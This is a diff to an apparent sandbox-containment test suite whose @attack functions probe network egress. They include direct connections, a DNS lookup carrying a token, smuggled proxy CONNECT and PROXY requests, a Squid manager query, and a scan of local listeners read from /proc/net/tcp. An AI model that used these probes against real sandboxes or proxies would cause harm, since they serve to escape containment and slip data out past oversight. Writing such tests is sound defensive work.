@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import contextlib
+import errno
 import os
 import socket
 
@@ -55,14 +57,27 @@ def _():
     return connect("::1", PORT)
 
 
+# No packet has left: there is no way, or none is allowed.
+NO_WAY = (errno.ENETUNREACH, errno.EHOSTUNREACH, errno.EADDRNOTAVAIL, errno.EAFNOSUPPORT, errno.EACCES, errno.EPERM)
+
+
+def straight(host: str) -> str:
+    try:
+        return connect(host, 443)
+    except OSError as error:
+        if error.errno in NO_WAY:
+            raise
+        return f"a packet left for {host}: {error}"
+
+
 @attack("network.straight-out")
 def _():
-    return connect("192.0.2.1", 443)
+    return straight("192.0.2.1")
 
 
 @attack("network.straight-out-ipv6")
 def _():
-    return connect("2001:db8::1", 443)
+    return straight("2001:db8::1")
 
 
 @attack("network.dns-by-udp")
@@ -74,7 +89,10 @@ def _():
 
 @attack("network.name-resolution")
 def _():
-    return socket.getaddrinfo(TARGETS["token"] + ".example.org", 443)
+    for name in (TARGETS["token"] + ".example.org", TARGETS["allowed"]):  # the second one exists
+        with contextlib.suppress(socket.gaierror):
+            return socket.getaddrinfo(name, 443)
+    raise Held("no name, whether it exists or not")
 
 
 @attack("network.broadcast")
@@ -114,7 +132,6 @@ REQUESTS = {
     "name-as-suffix": "CONNECT {allowed}.{token}.example:443 HTTP/1.1\r\nHost: {allowed}\r\n\r\n",
     "other-port": "CONNECT {allowed}:22 HTTP/1.1\r\nHost: {allowed}:22\r\n\r\n",
     "mail-port": "CONNECT {allowed}:25 HTTP/1.1\r\nHost: {allowed}:25\r\n\r\n",
-    "manager": "GET http://127.0.0.1:3128/squid-internal-mgr/info HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n\r\n",
     "ftp": "GET ftp://127.0.0.1:{port}/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
     "trace": "TRACE http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
     "forged-sender": "PROXY TCP4 127.0.0.1 127.0.0.1 1 1\r\nGET http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: x\r\n\r\n",
@@ -132,16 +149,40 @@ for label, text in REQUESTS.items():
             "{allowed}", TARGETS["allowed"]))  # fmt: skip
 
 
+@attack("network.proxy-manager")
+def _():
+    for url in ("cache_object://127.0.0.1/info", "http://127.0.0.1:3128/squid-internal-mgr/info"):
+        with contextlib.suppress(Held):
+            return through_proxy(f"GET {url} HTTP/1.0\r\nHost: 127.0.0.1:3128\r\n\r\n")
+    raise Held("by its own scheme and by HTTP")
+
+
+def listeners() -> list[tuple[str, int]]:
+    """Whatever listens by TCP in this network, as the kernel lists it."""
+    found = []
+    for line in open("/proc/net/tcp").read().splitlines()[1:]:
+        local, state = line.split()[1], line.split()[3]
+        if state == "0A":
+            address, port = local.split(":")
+            found.append((socket.inet_ntoa(bytes.fromhex(address)[::-1]), int(port, 16)))
+    return found
+
+
 @attack("network.squid-itself")
 def _():
-    """Squid's own port is on the host's loopback, and wants a key besides."""
-    tried = 0
-    for port in range(1, 65536, 997):
+    """Squid listens on a loopback address of the host's, and wants a key besides."""
+    ours = {PROXY[1], 9418, *TARGETS["granted"]}
+    reached = []
+    for address, port in listeners():
+        if address == "127.0.0.1" and port in ours:
+            continue
         with socket.socket() as link:
-            if port != PROXY[1] and link.connect_ex(("127.0.0.1", port)) == 0:
-                return f"something listens on {port}"
-            tried += 1
-    raise Held(f"{tried} ports tried, none answers")
+            link.settimeout(3)
+            if link.connect_ex((address, port)) == 0:
+                reached.append(f"{address}:{port}")
+    if reached:
+        return f"reached without the relay: {', '.join(reached)}"
+    raise Held("nothing listens but the session's own ports")
 
 
 @attack("network.proxy-variables")
